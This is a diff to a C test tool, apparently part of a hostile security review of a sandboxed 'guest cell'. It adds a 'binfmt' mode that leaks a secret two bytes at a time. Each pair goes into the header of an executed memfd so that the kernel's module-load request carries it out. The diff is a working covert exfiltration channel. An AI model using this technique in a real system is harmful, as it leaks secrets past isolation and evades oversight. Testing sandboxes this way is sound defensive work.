@@ -14,6 +14,13 @@
  *   modprobe-name fsopen SECRET unshare(CLONE_NEWUSER | CLONE_NEWNS), then
  *                               fsopen(SECRET): get_fs_type ->
  *                               request_module("fs-%s") before any LSM hook
+ *   modprobe-name binfmt SECRET for each 2 bytes of SECRET, a memfd whose
+ *                               bytes 0-1 are not printable and 2-3 are
+ *                               those two, executed (execveat, empty
+ *                               path): no handler knows it, so
+ *                               search_binary_handler runs
+ *                               request_module("binfmt-%04x") with them
+ *                               (hostile review h-attack40)
  *   modprobe-name install DEST  root service (guest cell): copies itself to
  *                               /sbin/ha13-modprobe-helper, points
  *                               kernel.modprobe at it, writes DEST, holds a
@@ -104,8 +111,26 @@ int main(int argc, char **argv)
 		rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
 		printf("agent: unshare = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
 		rc = syscall(SYS_fsopen, secret, 0);
+	} else if (strcmp(mode, "binfmt") == 0) {
+		rc = 0;
+		for (size_t i = 0; secret[i] && secret[i + 1]; i += 2) {
+			unsigned char head[64] = {0x01, 0x02};
+			char *const args[] = {(char *)"x", NULL};
+			int fd = (int)syscall(SYS_memfd_create, "binfmt", 0);
+
+			head[2] = (unsigned char)secret[i];
+			head[3] = (unsigned char)secret[i + 1];
+			if (fd < 0 || write(fd, head, sizeof(head)) != (ssize_t)sizeof(head)) {
+				rc = -1;
+				break;
+			}
+			rc = syscall(SYS_execveat, fd, "", args, args + 1, AT_EMPTY_PATH);
+			printf("agent: exec of a memfd holding '%c%c' = %ld (%s)\n", secret[i],
+			       secret[i + 1], rc, rc < 0 ? strerror(errno) : "ok");
+			close(fd);
+		}
 	} else {
-		fprintf(stderr, "usage: modprobe-name dh|fsopen|install SECRET\n");
+		fprintf(stderr, "usage: modprobe-name dh|fsopen|binfmt|install SECRET\n");
 		return 2;
 	}
 	printf("agent uid %d: %s(%s) = %ld (%s)\n", getuid(), mode, secret, rc,
